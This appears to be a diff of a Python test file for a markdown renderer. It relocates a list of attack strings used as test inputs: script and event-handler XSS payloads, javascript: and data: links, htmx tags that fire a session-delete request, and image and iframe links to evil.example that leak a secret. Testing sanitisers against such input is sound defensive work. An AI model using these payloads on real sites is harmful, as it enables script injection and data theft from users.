@@ -30,6 +30,28 @@ from tests.render.page import parse
 
 ANY_TEXT = st.text(st.characters(exclude_categories=()), max_size=60)
 
+ATTACKS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.example/?q=secret)",
+    "![x][ref]\n\n[ref]: https://evil.example/a.png",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD4=)",
+    "[x](vbscript:x)",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<hx-partial hx-target='#head'>gone</hx-partial>",
+    "<b hx-get='/sessions/1/delete' hx-trigger='load'>x</b>",
+    "[x](https://a.example \"t' onmouseover='alert(1)\")",
+    '```"><script>alert(1)</script>\nx\n```',
+    "<style>*{display:none}</style>",
+    "<iframe src=//evil.example></iframe>",
+    "<form action=/x><button>y",
+    "<svg><script>alert(1)</script></svg>",
+    "`<img src=x>`",
+    "<!-- --><title>x</title>",
+]
+
 
 @pytest.mark.parametrize(
     ("text", "visible"),
@@ -89,29 +111,6 @@ def test_every_space_is_plain_or_exposed() -> None:
 @pytest.mark.parametrize("text", [" " * 1_000_000, "\n " * 500_000, "a" + " \n" * 500_000])
 def test_gaps_are_found_soon(text: str) -> None:
     is_padded(text)
-
-
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "![x](https://evil.example/?q=secret)",
-    "![x][ref]\n\n[ref]: https://evil.example/a.png",
-    "[x](javascript:alert(1))",
-    "[x](JaVaScRiPt:alert(1))",
-    "[x](data:text/html;base64,PHNjcmlwdD4=)",
-    "[x](vbscript:x)",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<hx-partial hx-target='#head'>gone</hx-partial>",
-    "<b hx-get='/sessions/1/delete' hx-trigger='load'>x</b>",
-    "[x](https://a.example \"t' onmouseover='alert(1)\")",
-    '```"><script>alert(1)</script>\nx\n```',
-    "<style>*{display:none}</style>",
-    "<iframe src=//evil.example></iframe>",
-    "<form action=/x><button>y",
-    "<svg><script>alert(1)</script></svg>",
-    "`<img src=x>`",
-    "<!-- --><title>x</title>",
-]
 
 
 @pytest.mark.parametrize("text", ATTACKS)
